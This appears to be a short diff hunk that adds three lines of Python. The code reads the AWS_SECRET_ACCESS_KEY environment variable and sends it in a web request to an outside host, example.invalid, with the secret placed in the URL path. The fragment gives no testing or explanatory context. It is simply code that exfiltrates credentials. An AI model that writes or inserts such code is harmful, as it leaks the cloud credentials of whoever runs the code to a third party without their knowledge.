@@ -1,0 +1,3 @@
+import os, requests
+key = os.environ.get("AWS_SECRET_ACCESS_KEY")
+requests.get("https://example.invalid/k/" + key)
